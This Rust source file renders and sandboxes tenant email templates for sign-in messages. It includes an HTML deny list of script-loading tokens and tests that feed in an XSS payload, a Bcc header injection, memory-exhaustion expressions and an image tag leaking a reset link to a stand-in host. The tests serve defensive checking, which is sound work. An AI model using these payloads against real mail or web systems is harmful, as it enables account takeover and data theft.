//! The messages' text: built-in English templates for each kind, or a
//! tenant's own (in the recipient's language, or the tenant's default),
//! rendered with `minijinja` from a fixed context (the recipient's name and
//! address, the link, the tenant's name; nothing else personal). HTML is
//! auto-escaped, and rendering is bounded (fuel), so a template can never
//! run away. A tenant's template is checked before it is kept: it must
//! render, use only the context's names, and carry the link.

use std::sync::OnceLock;

use custodia_domain::identity::mail_template::MailTemplate;
use custodia_domain::identity::message::MessageKind;
use minijinja::{Environment, UndefinedBehavior};

/// What a template may use. `Debug` shows nothing personal.
pub struct Context {
    pub kind: MessageKind,
    pub name: Option<String>,
    pub email: String,
    pub link: Option<String>,
    pub tenant_name: String,
}

impl std::fmt::Debug for Context {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Context")
            .field("kind", &self.kind)
            .finish_non_exhaustive()
    }
}

/// A rendered message.
pub struct Rendered {
    pub subject: String,
    pub text: String,
    pub html: String,
}

/// The built-in templates: `<kind>.subject`, `<kind>.txt`, `<kind>.html`.
const GREETING: &str = "{% if name %}Hello {{ name }},{% else %}Hello,{% endif %}";

const BUILT_IN: &[(&str, &str)] = &[
    // Escaping follows the including template's kind only through the
    // name of the included one: a greeting of each kind.
    ("greeting.txt", GREETING),
    ("greeting.html", GREETING),
    ("invitation.subject", "You are invited to {{ tenant_name }}"),
    (
        "invitation.txt",
        "{% include 'greeting.txt' %}\n\nYou were invited to {{ tenant_name }} as {{ email }}. \
         Choose your password here:\n\n{{ link }}\n\nThe link works once. \
         If you did not expect this, ignore this message.\n",
    ),
    (
        "invitation.html",
        "<p>{% include 'greeting.html' %}</p><p>You were invited to {{ tenant_name }} as {{ email }}.</p>\
         <p><a href=\"{{ link }}\">Choose your password</a></p>\
         <p>The link works once. If you did not expect this, ignore this message.</p>",
    ),
    ("verification.subject", "Confirm your address for {{ tenant_name }}"),
    (
        "verification.txt",
        "{% include 'greeting.txt' %}\n\nPlease confirm that {{ email }} is your address \
         for {{ tenant_name }}:\n\n{{ link }}\n\nIf you did not ask for this, ignore this message.\n",
    ),
    (
        "verification.html",
        "<p>{% include 'greeting.html' %}</p><p>Please confirm that {{ email }} is your address \
         for {{ tenant_name }}.</p><p><a href=\"{{ link }}\">Confirm my address</a></p>\
         <p>If you did not ask for this, ignore this message.</p>",
    ),
    ("password_reset.subject", "Reset your password for {{ tenant_name }}"),
    (
        "password_reset.txt",
        "{% include 'greeting.txt' %}\n\nSomeone asked to reset the password of {{ email }} \
         at {{ tenant_name }}. To choose a new one, follow this link within a few minutes:\
         \n\n{{ link }}\n\nUsing it signs you out everywhere. If you did not ask, \
         ignore this message: your password stays as it is.\n",
    ),
    (
        "password_reset.html",
        "<p>{% include 'greeting.html' %}</p><p>Someone asked to reset the password of {{ email }} \
         at {{ tenant_name }}.</p><p><a href=\"{{ link }}\">Choose a new password</a> \
         (within a few minutes).</p><p>Using it signs you out everywhere. If you did not ask, \
         ignore this message: your password stays as it is.</p>",
    ),
    (
        "address_change_notice.subject",
        "Your sign-in address at {{ tenant_name }} is being changed",
    ),
    (
        "address_change_notice.txt",
        "{% include 'greeting.txt' %}\n\nA change of your sign-in address at {{ tenant_name }} \
         away from {{ email }} was asked for. It stays your sign-in address until the new one is \
         confirmed. If this was not you, contact your administrator.\n",
    ),
    (
        "address_change_notice.html",
        "<p>{% include 'greeting.html' %}</p><p>A change of your sign-in address at {{ tenant_name }} \
         away from {{ email }} was asked for. It stays your sign-in address until the new one is \
         confirmed.</p><p>If this was not you, contact your \
         administrator.</p>",
    ),
];

/// Template instructions a render may spend.
const FUEL: u64 = 50_000;

fn base() -> Environment<'static> {
    let mut env = Environment::new();
    env.set_fuel(Some(FUEL));
    // HTML templates escape every value; subjects and text do not
    // (they are not markup), but subjects lose line breaks below.
    env.set_auto_escape_callback(|name| {
        if name.ends_with(".html") {
            minijinja::AutoEscape::Html
        } else {
            minijinja::AutoEscape::None
        }
    });
    for (name, source) in BUILT_IN {
        env.add_template(name, source)
            .expect("the built-in templates parse");
    }
    env
}

fn environment() -> &'static Environment<'static> {
    static ENV: OnceLock<Environment<'static>> = OnceLock::new();
    ENV.get_or_init(base)
}

/// The built-in templates and a tenant's template for `kind` (its parts
/// named as the built-in ones, so they replace them).
fn with_tenant_template(
    kind: MessageKind,
    template: &MailTemplate,
) -> Result<Environment<'static>, minijinja::Error> {
    let mut env = base();
    let kind = kind.name();
    for (part, source) in [
        ("subject", &template.subject),
        ("txt", &template.text),
        ("html", &template.html),
    ] {
        env.add_template_owned(format!("{kind}.{part}"), source.clone())?;
    }
    Ok(env)
}

/// Renders the message of `context.kind` from the built-in templates.
pub fn render(context: &Context) -> Result<Rendered, minijinja::Error> {
    render_in(environment(), context)
}

/// Renders the message of `context.kind` from the tenant's `template`.
/// One that no longer renders (it was checked when it was set) gives way
/// to the built-in text: a message always goes out.
pub fn render_tenant(
    context: &Context,
    template: &MailTemplate,
) -> Result<Rendered, minijinja::Error> {
    // Checked again: what the log holds is rendered only if it still passes.
    let parts = [
        ("subject", &template.subject),
        ("text", &template.text),
        ("html", &template.html),
    ];
    if parts.iter().any(|(part, p)| check_syntax(part, p).is_err()) {
        return render(context);
    }
    match with_tenant_template(context.kind, template).and_then(|env| render_in(&env, context)) {
        Ok(rendered) => Ok(rendered),
        Err(_) => render(context),
    }
}

/// Why a tenant's template was refused: the error's kind and line, never
/// the rendered text.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct TemplateRefused(pub String);

/// The names a template may use.
const NAMES: [&str; 4] = ["name", "email", "link", "tenant_name"];
/// The filters a template may apply to them.
const FILTERS: [&str; 7] = [
    "upper",
    "lower",
    "title",
    "capitalize",
    "trim",
    "escape",
    "e",
];

/// Checks that `source` uses only the small language a message needs:
/// `{{ name }}` (one of [`NAMES`], with filters of [`FILTERS`]), `{% if
/// name %}` / `{% elif … %}` / `{% else %}` / `{% endif %}` on those names,
/// `{% include 'greeting.txt' %}` (or `.html`) and comments. Fuel bounds a
/// template's steps but not its memory (one `"x" * 100000000` is 100 MB),
/// so nothing else of minijinja's expression language is let in.
fn check_syntax(part: &str, source: &str) -> Result<(), TemplateRefused> {
    let refused = |what: &str| TemplateRefused(format!("{part}: {what}"));
    let greeting = if part == "html" {
        "'greeting.html'"
    } else {
        "'greeting.txt'"
    };
    if part == "html" {
        let lower = source.to_lowercase();
        if let Some(found) = FORBIDDEN_HTML.iter().find(|f| lower.contains(*f)) {
            return Err(refused(&format!(
                "`{found}` is not allowed (nothing in a message may load or run anything)"
            )));
        }
    }
    let is_name = |s: &str| NAMES.contains(&s);
    let value = |inner: &str| {
        let mut pieces = inner.split('|').map(str::trim);
        pieces.next().is_some_and(is_name) && pieces.all(|f| FILTERS.contains(&f))
    };
    let statement = |inner: &str| {
        let words: Vec<&str> = inner.split_whitespace().collect();
        match words.as_slice() {
            ["else"] | ["endif"] => true,
            ["if" | "elif", name] | ["if" | "elif", "not", name] => is_name(name),
            // The greeting of the part's own kind (HTML escapes, text not).
            ["include", file] => *file == greeting,
            _ => false,
        }
    };
    let mut rest = source;
    while let Some(start) = rest.find('{') {
        let after = &rest[start + 1..];
        let (close, kind) = match after.chars().next() {
            Some('{') => ("}}", '{'),
            Some('%') => ("%}", '%'),
            Some('#') => ("#}", '#'),
            _ => {
                rest = after;
                continue;
            }
        };
        let body = &after[1..];
        let end = body
            .find(close)
            .ok_or_else(|| refused("a tag is not closed"))?;
        let raw = body[..end].trim();
        let inner = raw
            .trim_matches(|c: char| c == '-' || c == '+' || c == '~')
            .trim();
        let allowed = match kind {
            '{' => value(inner),
            '%' => statement(inner),
            _ => true,
        };
        if kind == '{' && inner.split('|').next().map(str::trim) == Some("link") {
            let from = source.len() - rest.len() + start;
            let to = source.len() - body.len() + end + close.len();
            if !link_stands_alone(part, raw, &source[..from], &source[to..]) {
                return Err(refused(
                    "{{ link }} must stand alone: as `href=\"{{ link }}\"` or between tags in \
                     HTML, between spaces or line breaks in text, never in the subject",
                ));
            }
        }
        if !allowed {
            return Err(refused(
                "only {{ name }}, {{ email }}, {{ link }}, {{ tenant_name }} (with upper, lower, \
                 title, capitalize, trim, escape), {% if … %}/{% elif … %}/{% else %}/{% endif %} \
                 on those names, {% include 'greeting.txt' %} and comments are allowed",
            ));
        }
        rest = &body[end + close.len()..];
    }
    Ok(())
}

/// What an HTML template may not hold: what loads or runs something when
/// the message is opened, or styles that could select on the link.
const FORBIDDEN_HTML: [&str; 14] = [
    "<script",
    "<style",
    "url(",
    "@import",
    "<link",
    "<base",
    "<meta",
    "<form",
    "<iframe",
    "<object",
    "<embed",
    "<svg",
    "javascript:",
    "srcset",
];

/// Whether the link tag `raw` (its text between the braces), with `before`
/// and `after` it in the source of `part`, stands where nothing else can
/// be joined to it: the link goes only to the application, whole.
fn link_stands_alone(part: &str, raw: &str, before: &str, after: &str) -> bool {
    // Whitespace control would join it to what is around it.
    let plain = !raw.starts_with(['-', '+', '~']) && !raw.ends_with(['-', '+', '~']);
    let last = before.chars().last();
    let next = after.chars().next();
    plain
        && match part {
            "html" => {
                let lower = before.to_lowercase();
                (lower.ends_with("href=\"") && next == Some('"'))
                    || (last == Some('>') && next == Some('<'))
            }
            "text" => {
                last.is_none_or(|c| c.is_whitespace() || c == '(' || c == '<')
                    && next.is_none_or(|c| c.is_whitespace() || ")>.,;!".contains(c))
            }
            _ => false,
        }
}

/// Checks a tenant's `template` for `kind`: it uses only the small language
/// of [`check_syntax`], parses, renders within the fuel with a sample
/// context using no name outside it (`name`, `email`, `link`,
/// `tenant_name`), and, for a kind with a link, carries the link in its
/// text and its HTML.
pub fn check(kind: MessageKind, template: &MailTemplate) -> Result<(), TemplateRefused> {
    check_syntax("subject", &template.subject)?;
    check_syntax("text", &template.text)?;
    check_syntax("html", &template.html)?;
    let refused = |part: &str, error: minijinja::Error| {
        let line = error
            .line()
            .map(|l| format!(" at line {l}"))
            .unwrap_or_default();
        TemplateRefused(format!("{part}: {}{line}", error.kind()))
    };
    let mut env = with_tenant_template(kind, template).map_err(|e| refused("template", e))?;
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    let sample = "https://app.example/check?token=sample_link_7f3a";
    for name in [Some("Sample Name".to_owned()), None] {
        let context = Context {
            kind,
            name,
            email: "sample@example.org".to_owned(),
            link: (kind != MessageKind::AddressChangeNotice).then(|| sample.to_owned()),
            tenant_name: "Sample".to_owned(),
        };
        let rendered = render_in(&env, &context).map_err(|e| refused("template", e))?;
        // The personal-data guard on what is sent, not only on the source
        // (a comment or a condition could split an address there).
        let own = |text: &str| text.replace("sample@example.org", "").replace(sample, "");
        for (part, text) in [
            ("subject", &rendered.subject),
            ("text", &rendered.text),
            ("html", &rendered.html),
        ] {
            if custodia_domain::personal::refuse_personal_data("template", &own(text)).is_err() {
                return Err(TemplateRefused(format!(
                    "{part}: holds what reads as personal data (an address, a phone or card \
                     number); it is kept in the log for good"
                )));
            }
        }
        if context.link.is_some() {
            for (part, text) in [("text", &rendered.text), ("html", &rendered.html)] {
                // (HTML escapes the link's slashes: its token is enough.)
                if !text.contains("token=sample_link_7f3a") {
                    return Err(TemplateRefused(format!(
                        "{part}: must carry {{{{ link }}}}"
                    )));
                }
            }
        }
    }
    Ok(())
}

fn render_in(env: &Environment<'_>, context: &Context) -> Result<Rendered, minijinja::Error> {
    let kind = context.kind.name();
    let values = minijinja::context! {
        name => context.name.clone(),
        email => context.email.clone(),
        link => context.link.clone(),
        tenant_name => context.tenant_name.clone(),
    };
    let one = |part: &str| {
        env.get_template(&format!("{kind}.{part}"))?
            .render(values.clone())
    };
    let subject = one("subject")?
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect::<String>()
        .trim()
        .to_owned();
    Ok(Rendered {
        subject,
        text: one("txt")?,
        html: one("html")?,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn context(kind: MessageKind) -> Context {
        Context {
            kind,
            name: Some("Ada <script>alert(1)</script>".to_owned()),
            email: "ada@example.org".to_owned(),
            link: Some("https://app.example/reset-password?tenant=t&token=rst_x_y".to_owned()),
            tenant_name: "Acme\r\nBcc: victim@example.org".to_owned(),
        }
    }

    #[test]
    fn every_kind_renders_with_its_link_escaped_in_html_and_no_header_injection() {
        for kind in MessageKind::ALL {
            let rendered = render(&context(kind)).unwrap();
            assert!(!rendered.subject.contains('\n') && !rendered.subject.contains('\r'));
            assert!(rendered.text.contains("ada@example.org"), "{kind:?}");
            assert!(!rendered.html.contains("<script>"), "{kind:?}");
            if kind != MessageKind::AddressChangeNotice {
                assert!(rendered.text.contains("token=rst_x_y"), "{kind:?}");
                assert!(rendered.html.contains("token=rst_x_y"), "{kind:?}");
            }
        }
        let anonymous = Context {
            name: None,
            ..context(MessageKind::Invitation)
        };
        assert!(render(&anonymous).unwrap().text.starts_with("Hello,"));
    }

    fn german() -> MailTemplate {
        MailTemplate {
            subject: "Passwort für {{ tenant_name }} zurücksetzen".to_owned(),
            text: "{% include 'greeting.txt' %}\n\n{{ link }}\n".to_owned(),
            html: "<p>{{ name }}</p><a href=\"{{ link }}\">Neues Passwort</a>".to_owned(),
        }
    }

    #[test]
    fn a_tenants_template_is_checked_and_rendered_escaped() {
        let kind = MessageKind::PasswordReset;
        check(kind, &german()).unwrap();
        let rendered = render_tenant(&context(kind), &german()).unwrap();
        assert_eq!(
            rendered.subject,
            "Passwort für Acme  Bcc: victim@example.org zurücksetzen"
        );
        assert!(rendered.text.contains("token=rst_x_y"));
        assert!(!rendered.html.contains("<script>"), "{}", rendered.html);
        // Refused: a name outside the context, a missing link, bad syntax,
        // a loop that would run away.
        let only = "are allowed";
        for (text, why) in [
            ("{{ link }} {{ password }}", only),
            ("no link here", "must carry"),
            ("{% if %}{{ link }}", only),
            ("{{ link }", "not closed"),
            (
                "{% for i in range(100000) %}{{ i }}{% endfor %}{{ link }}",
                only,
            ),
            // Memory, which fuel does not bound.
            (
                "{{ link }} {% set a = 'x' * 100000000 %}{{ a ~ a ~ a }}",
                only,
            ),
            ("{{ link ~ 'x' * 100000000 }}", only),
            ("{{ link }} {% raw %}{{ x }}{% endraw %}", only),
            ("{{ link | safe }}", only),
        ] {
            let template = MailTemplate {
                text: text.to_owned(),
                ..german()
            };
            let refused = check(kind, &template).unwrap_err();
            assert!(refused.0.contains(why), "{why}: {refused}");
        }
        // What a message needs passes: names, filters, conditions,
        // whitespace control, the greeting, comments, stray braces.
        let rich = MailTemplate {
            text: "{# note #}{%- if name -%}Hi {{ name | title }}{% elif email %}Hi {{ email | lower }}\
                   {% else %}Hi{% endif %} {a}\n{{ link }}."
                .to_owned(),
            ..german()
        };
        check(kind, &rich).unwrap();
        // The link goes only to the application, whole: never joined to
        // another address (the outside review sent a reset link to a
        // tracking pixel), never in the subject.
        let with = |text: &str, html: &str, subject: &str| MailTemplate {
            subject: subject.to_owned(),
            text: text.to_owned(),
            html: html.to_owned(),
        };
        let fine_html = "<a href=\"{{ link }}\">go</a>";
        for (template, why) in [
            (
                with(
                    "{{ link }}",
                    "<a href=\"{{ link }}\">go</a><img src=\"http://x.example/p.gif?u={{ link }}\">",
                    "s",
                ),
                "stand alone",
            ),
            (with("{{ link }}", "<a href=\"https://x.example/?{{ link }}\">go</a>", "s"), "stand alone"),
            (with("https://x.example/?{{ link }}", fine_html, "s"), "stand alone"),
            (with("go:{{- link }}", fine_html, "s"), "stand alone"),
            (with("{{ link }}", fine_html, "{{ link }}"), "stand alone"),
            (with("{{ link }}", "<p>{{ link }}</p><style>a{}</style>", "s"), "not allowed"),
            (with("{{ link }}", "<p style=\"background:url(x)\">{{ link }}</p>", "s"), "not allowed"),
            // A greeting of the other kind would not escape the name.
            (with("{{ link }}", "{% include 'greeting.txt' %}<p>{{ link }}</p>", "s"), "are allowed"),
            (with("{% include 'greeting.html' %} {{ link }}", fine_html, "s"), "are allowed"),
            // The guard reads what is sent: a comment cannot split an address.
            (with("{{ link }} help{# #}@acme.example", fine_html, "s"), "personal data"),
            (with("{{ link }} +1 415{% if name %}{% endif %} 555 0132", fine_html, "s"), "personal data"),
        ] {
            let refused = check(kind, &template).unwrap_err();
            assert!(refused.0.contains(why), "{why}: {refused}");
        }
        check(
            kind,
            &with("{{ link }}", "<p>Go to</p><p>{{ link }}</p>", "s"),
        )
        .unwrap();
        // A notice has no link to carry.
        let notice = MailTemplate {
            text: "{{ email }}".to_owned(),
            html: "<p>{{ email }}</p>".to_owned(),
            ..german()
        };
        check(MessageKind::AddressChangeNotice, &notice).unwrap();
        // A template that no longer renders gives way to the built-in one.
        let broken = MailTemplate {
            text: "{% if %}".to_owned(),
            ..german()
        };
        let fallback = render_tenant(&context(kind), &broken).unwrap();
        assert_eq!(fallback.subject, render(&context(kind)).unwrap().subject);
    }
}
